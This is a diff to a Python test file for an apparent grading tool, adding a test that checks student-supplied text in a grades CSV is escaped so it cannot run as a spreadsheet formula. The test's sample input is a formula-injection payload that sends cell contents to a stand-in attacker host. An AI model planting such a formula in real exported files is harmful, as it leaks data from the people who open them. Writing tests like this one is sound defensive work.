@@ -112,3 +112,11 @@ def test_an_unusable_roster_is_one_clear_error(tmp_path):
     binary.write_bytes(b"\xff\xfe\x00\x81garbage")
     with pytest.raises(InputError, match="cannot read the roster"):
         read_roster(binary)
+
+
+def test_student_text_never_becomes_a_spreadsheet_formula(tmp_path):
+    row = _row("mallory__lab01", "mallory", "01-rnn-cells", 0.0, NOT_GRADED)
+    row.message = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+    write_grades_csv([row], tmp_path / "grades.csv")
+    message = next(csv.DictReader((tmp_path / "grades.csv").open()))["message"]
+    assert message.startswith("'=HYPERLINK(")
